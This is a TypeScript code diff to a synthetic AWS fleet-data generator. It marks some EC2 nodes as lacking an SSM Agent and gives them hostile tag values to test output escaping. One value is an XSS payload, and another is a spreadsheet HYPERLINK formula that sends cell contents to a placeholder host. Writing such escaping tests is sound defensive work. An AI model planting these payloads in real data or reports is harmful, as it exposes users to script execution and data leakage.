@@ -195,13 +195,65 @@ function drawTags(
   return { tags, patchGroup };
 }
 
+/** The value of the first of `keys` the node is tagged with; null if none. */
+export function tagValue(plan: NodePlan, ...keys: string[]): string | null {
+  for (const key of keys) {
+    const found = plan.tags.find(([k]) => k === key);
+    if (found) return found[1];
+  }
+  return null;
+}
+
+/** The node's first three draws: where it runs, and whether it is an on-premises (`mi-`) node. */
+function drawPlacement(
+  random: Random,
+  shape: FleetShape,
+): { accountIndex: number; region: string; hybrid: boolean } {
+  const accountIndex = Math.floor(random() * shape.accounts);
+  const region = REGIONS[Math.floor(random() * shape.regions)] ?? 'us-east-1';
+  return { accountIndex, region, hybrid: random() < 0.03 };
+}
+
+/**
+ * Which nodes are EC2 instances with no working SSM Agent: exactly `round(nodes * pct / 100)` of them (at most
+ * every EC2 instance: an on-premises node exists only through SSM, so it is never unmanaged), those EC2 nodes
+ * whose own hash ranks lowest. The ranking reads only each node's placement draws, from a stream of its own,
+ * so the plans and every byte of a fleet without unmanaged instances stay as they were.
+ */
+export function selectUnmanaged(shape: FleetShape, pct: number): Uint8Array {
+  const selected = new Uint8Array(shape.nodes);
+  const wanted = Math.round((shape.nodes * pct) / 100);
+  if (wanted === 0) return selected;
+  const salt = textHash('unmanaged rank');
+  const candidates: { index: number; rank: number }[] = [];
+  for (let index = 0; index < shape.nodes; index++) {
+    const placement = drawPlacement(randomStream(shape.seed, index, textHash('node')), shape);
+    if (!placement.hybrid) candidates.push({ index, rank: hash(shape.seed, index, salt) });
+  }
+  candidates.sort((a, b) => a.rank - b.rank || a.index - b.index);
+  for (const { index } of candidates.slice(0, wanted)) selected[index] = 1;
+  return selected;
+}
+
+/** Hostile tag values for one unmanaged instance, so output escaping is exercised for nodes without SSM data. */
+const HOSTILE_UNMANAGED_NAME = '<svg onload=alert(2)>';
+const HOSTILE_UNMANAGED_TEAM = '=HYPERLINK("https://example.invalid/?u="&A1,"Unmanaged")';
+
+/** The plan with hostile Name and Team values (keeping the casing of a Team tag it already has). */
+export function withHostileTags(plan: NodePlan): NodePlan {
+  const tags = plan.tags.filter(([key]) => key !== 'Name' && key !== 'Team' && key !== 'team');
+  const teamKey = plan.tags.find(([key]) => key === 'team') ? 'team' : 'Team';
+  return {
+    ...plan,
+    tags: [['Name', HOSTILE_UNMANAGED_NAME], [teamKey, HOSTILE_UNMANAGED_TEAM], ...tags],
+  };
+}
+
 export function planNode(shape: FleetShape, index: number): NodePlan {
   const random = randomStream(shape.seed, index, textHash('node'));
   const key = hash(shape.seed, index, textHash('node key'));
-  const accountIndex = Math.floor(random() * shape.accounts);
+  const { accountIndex, region, hybrid } = drawPlacement(random, shape);
   const nodeAccount = account(accountIndex);
-  const region = REGIONS[Math.floor(random() * shape.regions)] ?? 'us-east-1';
-  const hybrid = random() < 0.03;
   // Random digits, then the index put through a keyed bijection: ids look random yet never collide.
   const nodeId = `${hybrid ? 'mi' : 'i'}-0${hex(random, 8)}${permute32(
     index,
